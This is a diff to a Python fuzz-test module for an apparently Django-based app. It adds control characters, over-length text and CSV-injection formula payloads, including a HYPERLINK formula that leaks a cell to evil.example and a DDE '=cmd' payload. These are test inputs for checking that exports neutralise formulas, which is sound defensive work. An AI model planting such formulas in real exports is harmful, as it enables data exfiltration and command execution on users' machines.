@@ -9,6 +9,8 @@ from django.apps import apps
 from hypothesis import HealthCheck, Phase, settings
 from hypothesis import strategies as st
 
+from core import validators as limits
+
 EXPLORE = os.environ.get("WUSHAN_FUZZ_EXPLORE") == "1"
 
 
@@ -40,6 +42,24 @@ def fingerprint() -> str:
 
 
 # --- values --------------------------------------------------------------------------------------------------------
+
+# Control characters other than tab and line feed (refused at input), spreadsheet formulas and the prefixes OWASP's
+# CSV-injection rule neutralises (stored as text, written to exports as text), one character past each text limit.
+CONTROL_TEXT = ["a\x0bb", "\x1b[31m红\x1b[0m", "a\x7fb", "a\x85b", "行\r回车", "\x0c", "名\x1f称"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&C5,"点击查看项目")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
+TEXT_LIMITS = (
+    40, 50, 100, 150, limits.NAME_MAX, limits.SHORT_NOTE_MAX, limits.REASON_MAX, limits.NOTE_MAX, limits.LONG_TEXT_MAX
+)  # fmt: skip
+OVER_LIMIT = ["字" * (n + 1) for n in TEXT_LIMITS]
 
 NASTY = [
     "",
@@ -93,6 +113,9 @@ NASTY = [
     "县交通局:100;县文化旅游委:50",
     "contract:1:1",
     "funds:999999:1",
+    *CONTROL_TEXT,
+    *FORMULAS,
+    *OVER_LIMIT,
 ]
 
 CHINESE = st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF)
@@ -235,8 +258,13 @@ def encode(data: dict) -> dict:
 
 
 # Values every form gets in every free field at once, deterministically, besides the generated examples: the ones that
-# broke something once (NUL in PostgreSQL text and jsonb, ids and amounts beyond every range, impossible dates).
-KILLERS = ["a\x00b", "9" * 40, "1e309", "NaN", "-1", "2023-02-30", "字" * 3000, "", "0"]
+# broke something once (NUL in PostgreSQL text and jsonb, ids and amounts beyond every range, impossible dates, dates
+# before the earliest year, control characters in an export, formulas, text one past its limit).
+KILLERS = [
+    "a\x00b", "9" * 40, "1e309", "NaN", "-1", "2023-02-30", "字" * 3000, "", "0",
+    "0001-01-01", "1999-12", "a\x0bb", "行\r回车", FORMULAS[0], "@SUM(A1:A9)", "\t=1+1",
+    "字" * (limits.NAME_MAX + 1), "字" * (limits.NOTE_MAX + 1),
+]  # fmt: skip
 
 
 def uniform_payloads(fields: dict):
